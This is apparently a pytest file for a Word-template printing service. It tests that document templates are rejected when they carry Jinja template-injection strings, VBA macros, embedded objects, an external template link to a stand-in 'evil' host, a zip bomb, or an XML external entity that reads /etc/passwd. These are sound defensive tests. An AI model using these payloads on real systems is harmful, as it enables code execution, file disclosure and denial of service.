"""T16 (inspection papers): a bureau's Word template may lay out values and nothing else; no text of the data is ever a template."""

import io
import zipfile
from datetime import date
from pathlib import Path

import docx
import pytest

from gisvc.forms.inspection.documents import BY_NAME
from gisvc.forms.inspection.order import Order
from gisvc.forms.inspection.specimen import specimen_dossier
from gisvc.forms.papers.errors import TemplateRefused
from gisvc.forms.papers.honest import MOST_BYTES, require_honest
from gisvc.forms.papers.paper import Page, Paper, Text
from gisvc.forms.papers.press import Press

HOSTILE = [
    "{{ ''.__class__ }}",
    "{{ title.__class__.__mro__ }}",
    "{{ title['__class__'] }}",
    "{{ title | attr('__class__') }}",
    "{{ self }}",
    "{{ cycler.__init__ }}",
    "{{ range(999999999) }}",
    "{{ lipsum() }}",
    "{{ title.format() }}",
    "{% set x = 1 %}",
    "{% include 'x' %}",
    "{% import 'x' as y %}",
    "{% macro m() %}{% endmacro %}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 'x' * 999999999 }}",
    "{{ title ~ title }}",
    "{% for a in pages recursive %}{% endfor %}",
    "{% for a in pages %}{% for b in pages %}{% for c in pages %}{% for d in pages %}{{ d }}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
    "{{ pages | map('upper') }}",
    "{{ title[0:1] }}",
    "{% endfor %}",
    "{{",
]


@pytest.fixture(scope="module")
def order() -> Order:
    return Order(specimen_dossier(), date(2026, 11, 22), lambda _: None)


def paper(order: Order, text: str = "正文") -> Paper:
    return order.paper("letter", 13, "函", (Page("letter", (Text("body", (text,)),)),))


def template(text: str, *, where: str = "body") -> bytes:
    document = docx.Document()
    (document if where == "body" else document.sections[0].header).add_paragraph(text)
    sink = io.BytesIO()
    document.save(sink)
    return sink.getvalue()


@pytest.mark.parametrize("where", ["body", "header"])
@pytest.mark.parametrize("tag", HOSTILE)
def test_a_template_that_reaches_for_more_than_values_is_refused(order: Order, tmp_path: Path, tag: str, where: str) -> None:
    (tmp_path / "letter.docx").write_bytes(template(tag, where=where))
    with pytest.raises(TemplateRefused) as refused:
        Press(templates=tmp_path).print(paper(order), "docx")
    assert "letter.docx" in str(refused.value)


@pytest.mark.parametrize(
    "text", [*HOSTILE, "A&B <山>", "{%tr for x in rows %}", "{{r title }}", "]]> &amp;", "𠮷岘\u202e倒\u202c"]
)
def test_data_that_looks_like_a_tag_stays_text(order: Order, text: str) -> None:
    read = docx.Document(io.BytesIO(Press().print(paper(order, text), "docx")))
    assert text in [p.text for p in read.paragraphs]


def rebuilt(content: bytes, **parts: bytes) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as held, zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as made:
        for entry in held.infolist():
            if entry.filename not in parts:
                made.writestr(entry, held.read(entry))
        for name, part in parts.items():
            made.writestr(name, part)
    return sink.getvalue()


def test_macros_embedded_objects_and_outside_parts_are_refused() -> None:
    plain = template("{{ title }}")
    require_honest(plain, "x.docx")
    outside = b"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
        <Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>"""
    for parts in (
        {"word/vbaProject.bin": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/_rels/settings.xml.rels": outside},
    ):
        with pytest.raises(TemplateRefused):
            require_honest(rebuilt(plain, **parts), "x.docx")


def test_a_template_that_is_no_document_or_too_large_is_refused(order: Order, tmp_path: Path) -> None:
    bomb = rebuilt(template("x"), **{"word/media/a.bin": b"0" * 70_000_000})
    for content in (b"", b"PK", b"%PDF-1.7", template("x")[:900], bomb, b"x" * (MOST_BYTES + 1)):
        (tmp_path / "letter.docx").write_bytes(content)
        with pytest.raises(TemplateRefused):
            Press(templates=tmp_path).print(paper(order), "docx")


def test_entities_in_a_template_open_no_file() -> None:
    entity = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&x;</Relationships>'
    with pytest.raises(TemplateRefused):
        require_honest(rebuilt(template("x"), **{"word/_rels/settings.xml.rels": entity}), "x.docx")


def test_a_paper_has_a_template_of_its_own_name_only(order: Order, tmp_path: Path) -> None:
    (tmp_path / "report.docx").write_bytes(template("{{ ''.__class__ }}"))
    assert Press(templates=tmp_path).print(BY_NAME["letter"].describe(order), "docx")  # type: ignore[union-attr]
